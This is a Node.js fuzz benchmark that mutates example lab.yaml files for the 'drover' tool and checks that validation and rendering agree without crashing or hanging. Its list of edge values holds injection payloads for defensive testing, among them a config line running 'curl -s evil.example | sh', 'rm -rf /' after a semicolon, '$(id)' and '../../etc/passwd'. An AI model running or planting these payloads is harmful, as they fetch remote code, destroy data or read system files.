#!/usr/bin/env node
// Fuzz benchmark (issue 12): structural and value mutations of every example through `drover check`'s
// in-process path (lab.yaml text → spec rules → resolved lab → lab rules → patch targets, exactly what
// src/cli/lab-file.ts loadLab runs) and, for every mutant check accepts, a full render into memory
// (renderLab, with the example's secrets topped up by ensureSecrets). Reports
//   crashes        check threw anything, or render threw anything on an accepted lab but an internal error
//                  of an emitter refusing a value (counted separately: that is a check/render disagreement too)
//   hangs          a check or render that took more than 1 s
//   disagreements  check accepted, render failed
// and the slowest inputs. Not a test: `npm run build --silent && node bench/fuzz.mjs`.
// env: MUTANTS (total, default 100000), SEED (1), BUDGET_S (stop early after this many seconds, default none),
//      SHOW (how many slowest/failing inputs to print, 5), RENDER_EVERY (render every Nth accepted mutant, 1)
import { readFileSync, readdirSync, existsSync } from "node:fs";
import { join, dirname } from "node:path";
import { fileURLToPath } from "node:url";
import { performance } from "node:perf_hooks";
import { parse } from "yaml";

const root = join(dirname(fileURLToPath(import.meta.url)), "..");
const dist = (p) => join(root, "dist", p);
const { loadLabText } = await import(dist("lab/load.js"));
const { patchTargetFindings } = await import(dist("render/apps/index.js"));
const { renderLab } = await import(dist("render/index.js"));
const { ensureSecrets } = await import(dist("secrets/generate.js"));
const { generateTalosSecrets } = await import(dist("secrets/talos.js"));

const MUTANTS = Number(process.env.MUTANTS ?? 100000);
const SEED = Number(process.env.SEED ?? 1);
const BUDGET_S = Number(process.env.BUDGET_S ?? Infinity);
const SHOW = Number(process.env.SHOW ?? 5);
const HANG_MS = 1000;
const RENDER_EVERY = Number(process.env.RENDER_EVERY ?? 1);

// ---------- the examples ----------
const examples = readdirSync(join(root, "examples")).filter((e) => existsSync(join(root, "examples", e, "lab.yaml"))).sort();
const bases = examples.map((name) => {
  const dir = join(root, "examples", name);
  const text = readFileSync(join(dir, "lab.yaml"), "utf8");
  const sources = new Map();
  if (existsSync(join(dir, "functions"))) for (const f of readdirSync(join(dir, "functions"))) sources.set(`functions/${f}`, readFileSync(join(dir, "functions", f), "utf8"));
  const r = loadLabText(text, `${name}/lab.yaml`, { functionSources: () => ({ sources }) });
  if (!r.lab) throw new Error(`example ${name} is invalid`);
  let n = 0;
  const secrets = ensureSecrets(r.lab, undefined, { talos: generateTalosSecrets, appSecret: (kind) => `${kind}-value-${++n}` }).secrets;
  // one render first, as a lab's secrets store keeps its derived values (password hashes: PBKDF2 and
  // SHA-crypt take most of a first render, about 0.8 s, and are not what this measures)
  renderLab(r.lab, secrets);
  return { name, value: parse(text, { merge: true }), sources, secrets };
});

/** What lab/file.ts readFunctionSources answers for the example's folder: the scripts, or where one is missing. */
function readSources(spec, sources) {
  const missing = spec.functions.flatMap((f, i) => (sources.has(f.file) ? [] : [{ severity: "error", path: ["functions", i, "file"], message: `${f.file} does not exist` }]));
  return missing.length ? { diagnostics: missing } : { sources };
}

// ---------- mutations ----------
let s = SEED >>> 0;
const rnd = () => ((s = (s * 1664525 + 1013904223) >>> 0), s / 2 ** 32);
const pick = (xs) => xs[Math.floor(rnd() * xs.length)];

const scalars = [];
(function collect(v) {
  if (Array.isArray(v)) v.forEach(collect);
  else if (v && typeof v === "object") Object.values(v).forEach(collect);
  else if (!scalars.includes(v)) scalars.push(v);
})(bases.map((b) => b.value));

// values that sit on the edges of what fields accept, and the attack payloads of test/fixtures/attacks
const EDGE = [
  null, true, false, 0, -1, 1.5, 1e308, -0, 65535, 65536, 2 ** 53, "", " ", "0", "-", "~", "null", "Infinity", "NaN", "0x10",
  "192.168.1.999", "10.0.0.0/33", "10.0.0.1/8", "1.2.3.4-1.2.3.1", "::1", "[::1]:51820", "2001:db8::7", "fe80::1%eth0", "a b", "a..b", "-a", "a_b",
  "host:0", "host:65536", "host:51820", "/dev/", "16Qi", "∞", "ünïcødé", "a".repeat(300), "__proto__", "constructor", "toString",
  "203.0.113.40:51820\n[Interface]\nPostUp = curl -s evil.example | sh", "x\u2028INJECTED: pwned", "x\u0085y", "\ufeffbom", "a\u2029b", "\u0000", "\ud800",
  "@hourly; rm -rf /", "junk 0 3 * * *", "*/0 * * * *", "@every 1h", "0 3 * * 7", "CRON_TZ=UTC 0 3 * * *", "60 * * * *", "0 0 * jan-dec mon-sun",
  "https://s3.example.com", "http://[::1]:9000", "javascript:alert(1)", "ssh://git@github.com/a/b.git", "git@github.com:a/b.git",
  "$(id)", "`id`", "'; rm -rf / #", "\"quoted\"", "a=b", "#comment", "[section]", "key = \"v\"\ninjected = 1", "../../etc/passwd", "/etc/passwd",
  "<<", "- a", "? b", "&anchor", "*alias", "!!binary", "|", ">", "%TAG", "---", "...", "y", "no", "on", "017", "1_000", "1e3", ".inf",
];
const KEYS = ["nmae", "adress", "role", "kind", "x-ext", "__proto__", "<<", "patches", "labels", "env", "publicAddress", "endpoint", "schedule", "portal", "server"];

function oddValue() {
  const k = rnd();
  if (k < 0.45) return pick(EDGE);
  if (k < 0.8) return pick(scalars);
  if (k < 0.9) return [pick(scalars), pick(EDGE)].slice(0, 1 + Math.floor(rnd() * 2));
  return { [pick(KEYS)]: pick(rnd() < 0.5 ? EDGE : scalars) };
}

/** One mutation of a structured clone: walk to a random node, then change it. */
function mutate(root) {
  const copy = structuredClone(root);
  let parent;
  let key;
  let cur = copy;
  const depth = 1 + Math.floor(rnd() * 6);
  for (let d = 0; d < depth; d++) {
    if (!cur || typeof cur !== "object") break;
    const keys = Array.isArray(cur) ? cur.map((_, i) => i) : Object.keys(cur);
    if (!keys.length) break;
    parent = cur;
    key = pick(keys);
    cur = cur[key];
  }
  if (parent === undefined) return { value: copy, what: "none" };
  const kind = pick(["value", "value", "value", "value-edit", "delete", "duplicate", "rename", "swap", "wrap", "type"]);
  switch (kind) {
    case "value": parent[key] = oddValue(); break;
    case "value-edit":
      if (typeof cur === "string") { const at = Math.floor(rnd() * (cur.length + 1)); parent[key] = cur.slice(0, at) + pick(["\n", "\u2028", " ", "#", "=", "[", ":", "\u0085", "'", "\"", ";", "$(", "\\", "/", "."]) + cur.slice(at); }
      else parent[key] = oddValue();
      break;
    case "delete": if (Array.isArray(parent)) parent.splice(key, 1); else delete parent[key]; break;
    case "duplicate": if (Array.isArray(parent)) parent.push(structuredClone(cur)); else parent[`${key}`] = structuredClone(cur); break;
    case "rename": if (!Array.isArray(parent)) { delete parent[key]; parent[pick(KEYS)] = cur; } break;
    case "swap": if (Array.isArray(parent) && parent.length > 1) { const j = Math.floor(rnd() * parent.length); [parent[key], parent[j]] = [parent[j], parent[key]]; } break;
    case "wrap": parent[key] = rnd() < 0.5 ? [cur] : { value: cur }; break;
    case "type": parent[key] = typeof cur === "string" ? Number(cur) || 7 : typeof cur === "number" ? String(cur) : cur === null ? {} : null; break;
  }
  return { value: copy, what: `${kind} at ${String(key)}` };
}

// ---------- run ----------
const isUserError = (e) => e && (e.name === "UserError" || e.constructor?.name === "PatchTargetError" || e.name === "InvalidLab");
const stats = { mutants: 0, accepted: 0, rejected: 0, rendered: 0, crashes: 0, hangs: 0, disagreements: 0, checkMs: 0, renderMs: 0 };
const failures = [];
const slowest = [];
const note = (list, item, limit = 50) => { list.push(item); list.sort((a, b) => b.ms - a.ms); if (list.length > limit) list.length = limit; };
const started = performance.now();
const perExample = Object.fromEntries(examples.map((e) => [e, { mutants: 0, accepted: 0 }]));

for (let i = 0; i < MUTANTS; i++) {
  if ((performance.now() - started) / 1000 > BUDGET_S) break;
  const base = bases[i % bases.length];
  const m = mutate(base.value);
  const text = JSON.stringify(m.value, (_, v) => (typeof v === "number" && !Number.isFinite(v) ? String(v) : v));
  stats.mutants++;
  perExample[base.name].mutants++;
  let lab;
  const t0 = performance.now();
  try {
    const r = loadLabText(text ?? "null", "lab.yaml", { functionSources: (spec) => readSources(spec, base.sources) });
    if (r.lab && patchTargetFindings(r.lab).length === 0) lab = r.lab;
  } catch (e) {
    stats.crashes++;
    failures.push({ kind: "check crash", example: base.name, what: m.what, error: String(e?.stack ?? e).split("\n").slice(0, 3).join(" | "), text: text.slice(0, 400) });
  }
  const checkMs = performance.now() - t0;
  stats.checkMs += checkMs;
  if (checkMs > HANG_MS) { stats.hangs++; failures.push({ kind: "check hang", example: base.name, what: m.what, ms: checkMs }); }
  note(slowest, { ms: checkMs, step: "check", example: base.name, what: m.what });
  if (!lab) { stats.rejected++; continue; }
  stats.accepted++;
  perExample[base.name].accepted++;
  if (stats.accepted % RENDER_EVERY !== 0) continue;
  const t1 = performance.now();
  try {
    const secrets = ensureSecrets(lab, base.secrets, { talos: generateTalosSecrets }).secrets;
    renderLab(lab, secrets);
    stats.rendered++;
  } catch (e) {
    if (isUserError(e) || /^internal: /.test(String(e?.message))) stats.disagreements++;
    else stats.crashes++;
    failures.push({ kind: isUserError(e) ? "disagreement (render refused)" : "render failure", example: base.name, what: m.what, error: String(e?.stack ?? e).split("\n").slice(0, 3).join(" | "), text: text.slice(0, 400) });
  }
  const renderMs = performance.now() - t1;
  stats.renderMs += renderMs;
  if (renderMs > HANG_MS) { stats.hangs++; failures.push({ kind: "render hang", example: base.name, what: m.what, ms: renderMs }); }
  note(slowest, { ms: renderMs, step: "render", example: base.name, what: m.what });
  if (stats.mutants % 5000 === 0) console.error(`fuzz: ${stats.mutants} mutants, ${stats.accepted} accepted, ${stats.crashes} crashes, ${stats.hangs} hangs, ${stats.disagreements} disagreements (${((performance.now() - started) / 1000).toFixed(0)} s)`);
}

const wall = (performance.now() - started) / 1000;
console.log(`fuzz: ${stats.mutants} mutants of ${examples.length} examples (seed ${SEED}) in ${wall.toFixed(0)} s`);
console.log(`  check:  ${stats.accepted} accepted, ${stats.rejected} rejected; mean ${(stats.checkMs / stats.mutants).toFixed(2)} ms`);
console.log(`  render: ${stats.rendered} rendered of ${Math.floor(stats.accepted / RENDER_EVERY)} tried (every ${RENDER_EVERY === 1 ? "" : `${RENDER_EVERY}th `}accepted); mean ${(stats.renderMs / Math.max(1, Math.floor(stats.accepted / RENDER_EVERY))).toFixed(1)} ms`);
console.log(`  crashes ${stats.crashes}, hangs (> ${HANG_MS} ms) ${stats.hangs}, check/render disagreements ${stats.disagreements}`);
console.log(`  per example: ${Object.entries(perExample).map(([k, v]) => `${k} ${v.accepted}/${v.mutants}`).join(", ")}`);
console.log(`  slowest:`);
for (const x of slowest.slice(0, SHOW)) console.log(`    ${x.ms.toFixed(0)} ms ${x.step} ${x.example} (${x.what})`);
if (failures.length) {
  console.log(`  failures (first ${SHOW} of ${failures.length}):`);
  for (const f of failures.slice(0, SHOW)) console.log(`    ${f.kind} ${f.example} (${f.what})${f.ms ? ` ${f.ms.toFixed(0)} ms` : ""}: ${f.error ?? ""}\n      ${f.text ?? ""}`);
}
process.exitCode = stats.crashes || stats.disagreements ? 1 : 0;
